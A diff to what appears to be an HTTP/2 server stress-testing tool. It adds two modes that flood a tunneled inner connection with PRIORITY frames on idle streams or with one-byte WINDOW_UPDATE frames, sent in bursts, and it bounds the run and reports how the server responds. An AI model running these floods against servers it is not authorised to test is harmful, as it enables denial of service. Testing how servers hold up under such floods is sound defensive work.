@@ -28,6 +28,9 @@ Attacks (--count and --seconds bound every loop; nothing runs longer than --seco
                       --count times; "nested" reports the inner connection's GOAWAY/resets/statuses
   inner-big-headers   the same, one inner request with a --size header block, then a normal one
   inner-many-streams  the same, --count inner streams opened at once and never ended
+  inner-priority-flood, inner-window-update-flood
+                      the same, one inner request, then --count inner PRIORITY (idle streams) or
+                      WINDOW_UPDATE(1) frames, 50 to a DATA frame
   no-read             the largest windows, up to 100 tunnels each asking --request, then never
                       read again for --seconds
   refused-upload      a tunnel whose inner HTTP/1.1 request the server refuses (a header line without a
@@ -389,6 +392,21 @@ def main():
             send_inner(frames)
             # then a well-behaved request on the same inner connection, if it is still there
             send_inner([hf.HeadersFrame(3, data=enc.encode(get), flags=["END_HEADERS", "END_STREAM"]).serialize()])
+        elif a in ("inner-priority-flood", "inner-window-update-flood"):
+            send_inner([hf.HeadersFrame(1, data=enc.encode(get), flags=["END_HEADERS", "END_STREAM"]).serialize()])
+            answered = min(deadline, time.time() + 2)
+            while time.time() < answered and not p.nested.statuses and not p.closed:
+                p.pump(0.05)  # the inner request answered first: the connection worked before the flood
+            for i in range(0, args.count, 50):
+                if time.time() > deadline or p.closed or p.nested.goaway or 1 in p.reset_streams:
+                    break
+                if a == "inner-priority-flood":
+                    burst = [hf.PriorityFrame(101 + 2 * (j % 1000), depends_on=0, stream_weight=15).serialize()
+                             for j in range(i, min(i + 50, args.count))]
+                else:
+                    burst = [hf.WindowUpdateFrame(0, window_increment=1).serialize()
+                             for _ in range(i, min(i + 50, args.count))]
+                send_inner(burst)
         elif a == "inner-many-streams":
             # --count streams opened at once, none ended: beyond SETTINGS_MAX_CONCURRENT_STREAMS they are refused
             frames = []
